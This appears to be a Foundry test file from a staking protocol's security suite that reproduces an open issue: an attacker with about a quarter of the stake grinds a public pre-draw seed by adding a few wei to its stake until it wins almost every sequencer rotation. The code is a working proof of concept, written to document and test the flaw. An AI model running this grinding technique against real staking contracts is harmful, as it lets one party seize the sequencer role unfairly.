// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ProductionFixture, console} from "./ProductionFixture.sol";

/// @notice Attack 2 (issue #10), OPEN: rotation grinding. The draw's seed is public before the
///         draw (`nextSeed()` is a view; the seed block is long mined), and the draw reads the
///         stakes at draw time. An attacker with 25% of the stake tries, just before calling
///         `advanceEpoch`, adding 0..63 wei to its stake (`relock`) and keeps the first amount
///         that makes its key the winner: it wins (almost) every epoch for a few wei.
contract RotationGrindingTest is ProductionFixture {
    address internal attacker;
    uint256 internal constant ATTACKER_KEY = 0xA77;
    uint256 internal constant EPOCHS = 100;
    uint256 internal constant TRIES = 64;

    function setUp() public override {
        super.setUp();
        attacker = vm.addr(ATTACKER_KEY);
        // 4 x 100k honest; the attacker locks 100k - 1k and keeps 1k of headroom to grind with:
        // 99k / 499k ~ 19.8% ... raised to 25% by a second, passive key of 34k.
        _stake(attacker, ATTACKER_KEY, MAX_LOCK - 1_000 ether);
        _stake(vm.addr(ATTACKER_KEY + 1), ATTACKER_KEY + 1, 34_000 ether);
        token.transfer(attacker, 1_000 ether);
    }

    function _isAttacker(address who) internal view returns (bool) {
        return who == attacker || who == vm.addr(ATTACKER_KEY + 1);
    }

    /// @notice Who the draw in this block would pick if `who`'s stake were `extra` wei higher
    ///         (the attacker's simulation of the contract's draw with today's stakes).
    function _wouldWin(uint256 extra) internal view returns (bool) {
        (address[] memory signers, uint256[] memory stakes) = pool.activeSet();
        for (uint256 i = 0; i < signers.length; i++) {
            if (signers[i] == attacker) stakes[i] += extra;
        }
        return _isAttacker(signers[sset.selectIndex(stakes, sset.nextSeed())]);
    }

    /// @return wins epochs the attacker's keys were drawn in; shareBps its stake share at the end.
    function _grind() internal returns (uint256 wins, uint256 shareBps) {
        for (uint256 e = 0; e < EPOCHS; e++) {
            vm.warp(sset.epochInfo().epochEnd);
            vm.roll(block.number + 300); // an hour of L1 blocks
            for (uint256 d = 0; d < TRIES; d++) {
                if (!_wouldWin(d)) continue;
                if (d > 0) {
                    vm.prank(attacker);
                    pool.relock(attacker, d, false);
                }
                break;
            }
            sset.advanceEpoch(); // the same block (one transaction in a real attack)
            if (_isAttacker(sset.currentSequencer())) wins++;
        }
        uint256 mine = pool.sequencer(attacker).amount + pool.sequencer(vm.addr(ATTACKER_KEY + 1)).amount;
        shareBps = (mine * 10_000) / pool.activeStake();
    }

    function test_openAttack_grindingWinsEveryEpochToday() public {
        (uint256 wins, uint256 shareBps) = _grind();
        console.log("epochs, attacker wins, attacker stake share (bps)", EPOCHS, wins, shareBps);
        assertGe(wins, (EPOCHS * 9) / 10, "today the grinder wins more than 90% of the epochs");
        assertLe(shareBps, 2_600, "with about 25% of the stake");
    }
}
